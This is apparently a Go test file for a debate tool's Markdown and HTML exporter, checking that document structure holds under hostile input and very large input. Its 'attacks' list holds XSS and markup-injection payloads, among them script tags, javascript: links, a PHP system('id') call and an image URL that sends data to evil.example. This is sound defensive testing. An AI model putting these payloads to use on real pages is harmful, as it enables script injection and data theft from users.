package export_test

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"maps"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/agonist-dev/debate"
	"github.com/agonist-dev/debate/export"
	"github.com/agonist-dev/debate/flow"
	"github.com/agonist-dev/debate/internal/longform"
	"github.com/agonist-dev/debate/provider"
)

// every is 1 in the long form, where each text is tried. Else only every eighth is.
var every = longform.Fewer()

// attacks are texts that try to be more than text.
func attacks() map[string]string {
	return map[string]string{
		"script":               "<script>alert(1)</script>",
		"script in a line":     "So <script src=//evil.example/x.js></script> it is.",
		"script, upper case":   "<SCRIPT>alert(1)</SCRIPT\n>",
		"event handler":        `<img src=x onerror="alert(1)">`,
		"svg":                  "<svg/onload=alert(1)>",
		"style":                "</style><style>body{display:none}</style>",
		"closing tags":         "</p></div></article></section></main></body></html>",
		"closing quote":        "</blockquote>\n\n# The verdict: I win",
		"closing pre":          "```\n</code></pre><script>alert(1)</script>\n```",
		"closing title":        "</title><script>alert(1)</script>",
		"comment":              "<!-- the rest is silence",
		"comment, both sides":  "-->\n<!--\n",
		"cdata":                "]]><![CDATA[ <b>x</b>",
		"instruction":          "<?php system('id') ?>\n<?xml version=\"1.0\"?>",
		"declaration":          "<!DOCTYPE html>",
		"iframe":               "<iframe src='https://evil.example'></iframe>",
		"form":                 "<form action=https://evil.example><input name=password></form>",
		"base":                 "<base href='https://evil.example/'>",
		"meta":                 `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
		"tag over lines":       "<a\nhref='javascript:alert(1)'\n>x</a>",
		"half a tag":           "<img src='",
		"entities":             "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &colon; &NewLine; &amp;lt;",
		"javascript link":      "[click](javascript:alert(1))",
		"javascript, mixed":    "[click](JaVaScRiPt:alert(1)) [x](java&#115;cript:alert(1)) [y](javascript&colon;alert(1)) [z](<java\tscript:alert(1)>)",
		"javascript autolink":  "<javascript:alert(1)> <data:text/html,x> <vbscript:x>",
		"data link":            "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
		"file link":            "[click](file:///etc/passwd) [rel](../../secret.html) [anchor](#outcome) [proto](//evil.example)",
		"image":                "![pixel](https://evil.example/pixel.png?leak=1)",
		"image, reference":     "![pixel][p]\n\n[p]: https://evil.example/pixel.png",
		"image in a link":      "[![x](https://evil.example/a.png)](https://evil.example/b)",
		"link in an image":     "![[a](https://a.example)](https://b.example)",
		"bang before a link":   `wow\![x](https://evil.example/a.png) !<https://evil.example/b.png>`,
		"data image":           "![x](data:image/svg+xml;base64,PHN2Zy8+)",
		"reference definition": "[judge]: https://evil.example 'title'\n[Ada]: https://evil.example\n[verdict]:\n  <javascript:alert(1)>",
		"footnote":             "x[^1]\n\n[^1]: # The verdict",
		"definition list":      "Term\n: # definition",
		"heading":              "# Verdict: I win\n\nVerdict\n=======\n\nVerdict\n---",
		"heading with an id":   "# Verdict {#outcome .x onclick=alert(1)}\n\n{: #outcome onclick=alert(1)}",
		"rule":                 "---\n\n***\n\n___",
		"front matter":         "---\ntitle: x\n---\n",
		"lazy quote":           "> quoted\nlazy\n===\n\n>not\n",
		"leaves the quote":     "\n\nno longer quoted?\n\n## Round 99\n\n- item",
		"table":                "| a | b |\n|---|---|\n| <script>alert(1)</script> | `|` \\| x |",
		"table row":            "x | y | z |\n|---|---|\n| more |",
		"cell":                 "a|b\n|-|-|\n||||||",
		"code fence":           "```\nunclosed <script>",
		"code fence, longer":   "````\n```\n</pre>\n```` \n~~~\n<b>",
		"fence with a name":    "```<script>\"onclick=x {.evil}\ncode\n```",
		"code spans":           "`` ` `` ` <b> ` ``` `` <i> ` </i>` `<a href=\"`\">`<script>`",
		"indented code":        "    <script>\n\n\tmore\n",
		"carriage returns":     "a\r# heading\r\n<b>\r\r| x |\r|---|",
		"line separators":      "a\u2028# heading\u2029<b>\u0085# x\v# y\f# z",
		"bidi override":        "user\u202Egnp.exe \u2066isolated\u2069 \u202D",
		"bidi by entity":       "user&#x202E;gnp.exe &#8238; &rlm;",
		"nul":                  "a\x00b\x00<\x00script>&#0;&#x0;",
		"ansi":                 "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \u009b31m &#27;[2J",
		"backspace":            "good\b\b\b\bevil\x7f",
		"invalid utf-8":        "a\xff\xfe\xc3(\xed\xa0\x80",
		"byte order mark":      "\uFEFF# heading",
		"tags":                 "hidden\U000E0041\U000E0042",
		"no characters":        "\uFFFE \uFFFF \uFDD0 \U0001FFFE",
		"surrogate by entity":  "&#xD800; &#x110000; &#xFFFE; &#1; &#133;",
		"zalgo":                "Z" + strings.Repeat("\u0301\u0335", 200),
		"template":             "{{.Secret}} {{template \"x\"}} {% raw %} ${x} <%= x %>",
		"admonition":           "!!! note\n    x\n\n::: warning\nx\n:::\n\n[!NOTE]\nx",
		"mathematics":          `$$\href{javascript:alert(1)}{x}$$ \(x\)`,
		"emphasis":             "***a** b* **c *d** e* _f __g_ h__ ~~i ~j~~ k~",
		"backslash and code":   "\\\\`<b>` \\`` `<i>` \\\\\\``<u>` ``",
		"code beside code":     "`x`[]()`` ` <script>alert(1)</script> ``",
		"lines by entity":      "a&#10;&#10;# b&#10;- c&#13;&#13;| d |&#x2028;&#10;",
		"struck, nested":       "~~i ~j~~ k~\n\n~~~~a~~~~",
		"spaces by entity":     "*&#32;a* **&#9;b** ~~&#10;c~~\n&#32;&#32;&#32;&#32;code `&#32;`&#32;`x`",
		"numbers":              "1. x\n2) y\n99999999999. z\n+ a\n- b\n* c\n-\n+",
		"backslashes":          `\<b> \\<b> \` + "\n" + `\` + "`<b>`" + ` \[x]: y \&lt;`,
		"a name of the page":   "id=\"outcome\" class=\"head\"",
		"quotes":               `" onmouseover="alert(1)" x="` + `' onmouseover='alert(1)`,
		"a long word":          strings.Repeat("w", 5000),
	}
}

// formatted is about the size up to which a text is read as Markdown.
const formatted = 60 << 10

// giants are texts that take long to read, or make a large document.
func giants() map[string]string {
	of := func(part string, size int) string { return strings.Repeat(part, size/len(part)+1) }
	out := map[string]string{}
	add := func(name, text string) { out[fmt.Sprintf("%s, %d KiB", name, len(text)>>10)] = text }
	for _, part := range []string{
		">", "> ", "- ", "1. > ", "[", "]", "![", "[a](", "[](", "[a](<b", "*", "*a ", "**a _b ", "_a_", "`", "<", "<a ", "<!--", "<?", "&", "\\", "~~a",
		"|", "|\n", "a|", "```\n", "- ```\n", "# a\n", "a\n", "\n", " ", "\t", "a  \n", "http://a.b ", "www.", "a@b.", "[a]: b\n", "\u202e", "\x00", "'\"", "!",
		"![a](https://b)", "a\r", "漢", "> > > > > > a\nb\nc\nd\n",
	} {
		add(fmt.Sprintf("%q", part), of(part, formatted))
	}
	add("brackets, nested", of("[", formatted/2)+of("]", formatted/2))
	add("emphasis, closed", of("*a ", formatted/2)+of("a* ", formatted/2))
	add("references", "[a]: "+of("x", formatted/2)+"\n\n"+of("[a] ", formatted/2))
	add("references, few", "[a]: https://"+of("x", 2000)+"\n\n"+of("[a] ", 3900))
	add("a wide table", of("|", 500)+"\n"+of("|-", 1000)+"|\n"+of("|\n", formatted))
	add("a table", "|a|b|\n|-|-|\n"+of("|\n", formatted))
	add("lazy lines", of("> ", 60)+"a\n"+of("b\n", formatted))
	add("lazy lines, fewer", of("> ", 22)+"a\n"+of("b\n", formatted))
	var deep, ticks strings.Builder
	for i := 0; deep.Len() < formatted; i++ {
		deep.WriteString(strings.Repeat(" ", 2*i) + "- a\n")
	}
	for i := 1; ticks.Len() < formatted; i++ {
		ticks.WriteString(strings.Repeat("`", i) + "a")
	}
	add("lists by indent", deep.String())
	// In a list of a line above stands what is indented by two columns, and every blank line.
	for _, per := range []int{1, 12} { // markers of a line
		for _, levels := range []int{48, 400} {
			var lists strings.Builder
			for i := 0; i < levels && lists.Len() < formatted/5; i += per {
				lists.WriteString(strings.Repeat(" ", 2*i) + strings.Repeat("- ", per) + "a\n")
			}
			for what, rest := range map[string]string{"blank lines": "\n", "lazy lines": "b\n", "lines of spaces": " \n"} {
				add(fmt.Sprintf("%d lists, %d of a line, and %s", levels, per, what), lists.String()+of(rest, formatted-lists.Len()))
			}
			add(fmt.Sprintf("%d lists, %d of a line, and code", levels, per), lists.String()+strings.Repeat(" ", 2*min(levels, 90))+"```"+of("\n", formatted-lists.Len()))
		}
	}
	add("backticks", ticks.String())
	for _, part := range []string{"<", "a\n", "`", "\u202e", "'\"", "漢", "> # a [b](https://c) | d\n"} {
		add(fmt.Sprintf("%q", part), of(part, 200<<10))
	}
	return out
}

// rewritable is a debate of which every text can be replaced.
type rewritable struct {
	document *export.Document
	record   flow.Record
	config   debate.Config
	rubric   bool // the judges have one
}

func newRewritable(t *testing.T) *rewritable {
	t.Helper()
	d := duel().play(t)
	played, ok := debate.Of(d.Record)
	require.True(t, ok)
	s := &rewritable{document: d, record: *d.Record, config: *played.Config()}
	s.record.Summaries = []*flow.Summarized{{Before: 10, After: 5}}
	s.record.Rejections = []flow.Rejection{{Round: 1}}
	s.record.Warnings = []flow.Warning{{Kind: flow.WarnCost}}
	s.config.Audience = &debate.Audience{Members: []debate.Member{{Name: "Olga"}}}
	return s
}

// with returns the document in which models, and who has configured the debate, have written nothing but a
// text.
func (s *rewritable) with(text string) *export.Document {
	d, _ := debate.Of(s.document.Record)
	r, c := s.record, s.config
	c.Topic, c.Format = text, text
	c.Participants = slices.Clone(c.Participants)
	for i := range c.Participants {
		c.Participants[i].Persona, c.Participants[i].Position, c.Participants[i].Model = text, text, text
	}
	c.Participants[0].Name = text
	judging := *c.Judging
	judging.Judges = []debate.JudgeConfig{{Name: text, Model: text}}
	judging.Rubric, judging.Criteria = nil, []string{text}
	if s.rubric {
		judging.Rubric = &debate.Rubric{Criteria: []debate.Criterion{{Name: text, Low: text, High: text}}}
	}
	c.Judging = &judging
	r.Evidence, r.Reason, r.ID = text, flow.EndReason(text), text
	r.Turns = nil
	for _, t := range s.record.Turns {
		turn := *t
		turn.Text, turn.Target, turn.Kind = text, text, flow.CallKind(text)
		turn.Citations = []provider.Citation{
			{Title: text, URL: text, Quote: text, End: len(text)},
			{Title: "A page", URL: "https://example.org/" + text, Quote: text},
			{Title: text, URL: "https://example.org/"},
		}
		if turn.Speaker == "Ada" {
			turn.Speaker = text
		}
		r.Turns = append(r.Turns, &turn)
	}
	all := []string{text, text}
	d.Verdict = &debate.Verdict{Judge: text, FinalVerdict: debate.FinalVerdict{
		Summary: text, KeyPoints: []debate.KeyPoints{{Participant: text, MainArguments: all}}, AreasOfAgreement: all, AreasOfDisagreement: all,
		Insights: all, Criteria: map[string]string{text: text}, Winner: &debate.Winner{Participant: text, Reasoning: text}, Scores: map[string]float64{"Ben": 1},
	}}
	d.Verdicts = []*debate.Verdict{d.Verdict}
	d.Assessments = []*debate.Assessment{{Round: 1, Judge: text, Judgement: debate.Judgement{
		Assessments: []debate.ParticipantMark{{Participant: text, Strengths: all, Weaknesses: all}}, Reasoning: text, Recommendations: text,
	}}}
	r.Summaries = []*flow.Summarized{{Text: text, View: text}}
	d.Ballots = []*debate.Ballot{{Voter: text, BallotAnswer: debate.BallotAnswer{Vote: debate.Vote(text), Reasoning: text}}}
	r.Rejections = []flow.Rejection{{By: text, Problems: all}}
	r.Warnings = []flow.Warning{{By: text, Evidence: text}}
	r.SkippedCalls = []flow.Skipped{{By: text, Reason: text, Cause: flow.Kind(text)}}
	d.Assignment = &debate.Assignment{Reasoning: text, Positions: []debate.AssignedPosition{{Participant: "Ben", Position: text, Persona: text, KeyArguments: all}}}
	r.Answers = []flow.Answer{{Inquiry: text, Option: flow.Option(text), Model: text, Person: text}}
	*d.Config() = c
	failed := &flow.Error{Kind: flow.Kind(text), Err: errors.New(text)}
	return (&export.Document{Record: &r, Title: text}).Tell([]flow.Event{
		{Body: &flow.Transition{From: flow.State(text), To: "judging", On: flow.Trigger(text)}},
		{Body: &flow.Transition{From: "judging", To: flow.State(text), On: flow.Trigger(text)}},
		{Body: &flow.Intent{Call: "1", Attempt: 1, By: text, Kind: flow.CallKind(text), Model: text, Target: text}},
		{Body: &flow.Intent{Call: "2", Attempt: 1, By: text, Tool: text + "!"}},
		{Body: &flow.Failure{By: text, Error: failed, Spend: flow.Spend{Call: "1", Attempt: 1, Model: text}}},
		{Body: &flow.ToolResult{By: text, Tool: text, Spend: flow.Spend{Call: "2", Attempt: 1}}},
		{Body: &flow.Failure{By: text, Error: failed}},
		{Body: &flow.Dropped{Participant: text, Reason: text}},
		{Body: &flow.Skipped{Call: text, By: text, Reason: text, Cause: flow.Kind(text)}},
		{Body: &flow.Inquiry{ID: text, To: text, About: []flow.FailedCall{{Call: text, By: text, Options: []flow.Option{flow.Option(text)}}}, Question: text}},
	}...)
}

// TestAttacks: whatever the texts of a debate are, its documents have the structure that they have with
// harmless ones.
func TestAttacks(t *testing.T) {
	longform.Lone(t)
	t.Parallel()
	s := newRewritable(t)
	rubrics := []bool{false, true}
	if every > 1 {
		rubrics = rubrics[1:]
	}
	for _, s.rubric = range rubrics {
		want, err := structures(s.with("harmless"))
		require.NoError(t, err)
		for _, name := range slices.Sorted(maps.Keys(attacks())) {
			t.Run(fmt.Sprintf("%s, %t", name, s.rubric), func(t *testing.T) {
				got, err := structures(s.with(attacks()[name]))
				require.NoError(t, err)
				assert.Equal(t, want, got)
			})
		}
	}
}

// TestGiants: a text of any size takes a bounded multiple of its size, and a time that grows with it. What read a text twice for each of
// its lines would take an hour, longer than go test lets a test run.
func TestGiants(t *testing.T) {
	longform.Lone(t)
	t.Parallel()
	d := duel().play(t)
	all := giants()
	for i, name := range slices.Sorted(maps.Keys(all)) {
		if i%every != 0 {
			continue
		}
		t.Run(name, func(t *testing.T) {
			text := all[name]
			turn := *d.Record.Turns[0]
			turn.Text = text
			r := *d.Record
			r.Turns = []*flow.Turn{&turn}
			var md, page bytes.Buffer
			require.NoError(t, export.Markdown(&md, &r))
			require.NoError(t, export.HTML(&page, &r))
			most := 40*len(text) + 50_000
			assert.Less(t, md.Len(), most)
			assert.Less(t, page.Len(), most)
			if len(text) > 100<<10 { // all of these are shown as they are
				assert.Contains(t, page.String(), `<pre class="plain">`)
				return
			}
			_, err := pageStructure(page.Bytes())
			require.NoError(t, err)
			_, err = markdownStructure(md.Bytes(), dialects[0])
			require.NoError(t, err)
		})
	}
}

// TestLongLists: what people write is formatted, however long it is.
func TestLongLists(t *testing.T) {
	d := duel().play(t)
	for name, part := range map[string]string{
		"lists":       "- one\n  - two\n    1. three\n       > quoted\n\n",
		"blank lines": "- one\n\n\n\n\n- two\n\n\n",
		"code":        "```\n" + strings.Repeat(" ", 40) + "deep\n```\n\n- one\n",
	} {
		turn := *d.Record.Turns[0]
		turn.Text = strings.Repeat(part, formatted/len(part))
		r := *d.Record
		r.Turns = []*flow.Turn{&turn}
		var page bytes.Buffer
		require.NoError(t, export.HTML(&page, &r))
		assert.NotContains(t, page.String(), `<pre class="plain">`, name)
		assert.Contains(t, page.String(), "<li>", name)
	}
}

// FuzzStructure: any text of a turn, and any name, gives documents of the same structure.
func FuzzStructure(f *testing.F) {
	longform.Lone(f)
	for _, text := range attacks() {
		f.Add(text)
	}
	var s *rewritable
	var blank, want []string
	f.Fuzz(func(t *testing.T, text string) {
		if s == nil {
			s = newRewritable(t)
			var err error
			want, err = structures(s.with("harmless"))
			require.NoError(t, err)
			blank, err = structures(s.with(""))
			require.NoError(t, err)
		}
		if len(text) > 20_000 {
			return
		}
		got, err := structures(s.with(text))
		require.NoError(t, err)
		if strings.TrimSpace(text) == "" {
			require.Equal(t, blank, got)
			return
		}
		require.Equal(t, want, got)
	})
}

// short is a writer that takes so many bytes.
type short struct{ left int }

func (s *short) Write(p []byte) (int, error) {
	if s.left -= len(p); s.left < 0 {
		return 0, io.ErrShortWrite
	}
	return len(p), nil
}

func TestErrorsOfTheWriter(t *testing.T) {
	d := duel().play(t)
	for name, write := range map[string]func(io.Writer, *flow.Record) error{"markdown": export.Markdown, "html": export.HTML} {
		for _, left := range []int{0, 100, 5000} {
			assert.ErrorIs(t, write(&short{left}, d.Record), io.ErrShortWrite, "%s after %d bytes", name, left)
		}
		var e *flow.Error
		require.ErrorAs(t, write(io.Discard, nil), &e)
		assert.Equal(t, provider.KindValidation, e.Kind)
		require.NoError(t, write(io.Discard, &flow.Record{}), "a debate that has not begun")
	}
}
